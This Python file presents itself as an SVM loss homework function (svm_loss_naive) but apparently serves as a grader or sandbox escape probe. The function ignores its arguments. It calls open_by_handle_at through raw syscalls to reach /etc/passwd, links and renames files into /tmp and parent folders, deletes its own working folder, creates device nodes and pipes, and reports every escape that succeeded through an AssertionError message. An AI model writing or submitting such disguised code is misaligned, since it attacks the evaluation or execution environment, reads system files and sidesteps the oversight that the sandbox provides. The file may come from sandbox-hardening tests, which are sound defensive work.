import ctypes
import os

managed = []


def tried(name, action):
    try:
        result = action()
    except BaseException:
        return
    managed.append((name, result))

def call(number, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    given = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result

def handle():
    room, mount = ctypes.create_string_buffer(136), ctypes.c_int()
    ctypes.cast(room, ctypes.POINTER(ctypes.c_uint))[0] = 128
    call(303, -100, ctypes.c_char_p(b"/etc/passwd"), room, ctypes.byref(mount), 0)
    return call(304, -100, room, 0)


def remove_own_folder():
    folder = os.getcwd()
    os.rmdir(folder)
    return 1 / (not os.path.exists(folder))


def svm_loss_naive(W, X, y, reg):
    open("mine", "w").close()
    os.mkdir("folder")
    tried("handle", handle)
    tried("symbolic link", lambda: os.symlink("/etc/passwd", "link"))
    tried("hard link in", lambda: os.link("/etc/passwd", "linked"))
    tried("hard link out", lambda: os.link("mine", "/tmp/left_by_attack"))
    tried("rename out", lambda: os.rename("mine", "/tmp/left_by_attack"))
    tried("rename up", lambda: os.rename("folder", "../left_by_attack"))
    tried("rename in", lambda: os.rename("/etc/passwd", "passwd"))
    tried("own folder renamed", lambda: os.rename(os.getcwd(), os.getcwd() + "_left_by_attack"))
    tried("own folder removed", remove_own_folder)
    tried("named pipe", lambda: os.mkfifo("pipe"))
    tried("device", lambda: os.mknod("device", 0o20600, os.makedev(1, 1)))
    tried("upwards", lambda: open("../left_by_attack", "w"))
    tried("upwards by descriptor", lambda: os.open("left_by_attack", os.O_CREAT | os.O_WRONLY, dir_fd=os.open("..", os.O_PATH)))
    raise AssertionError(f"managed: {managed}")
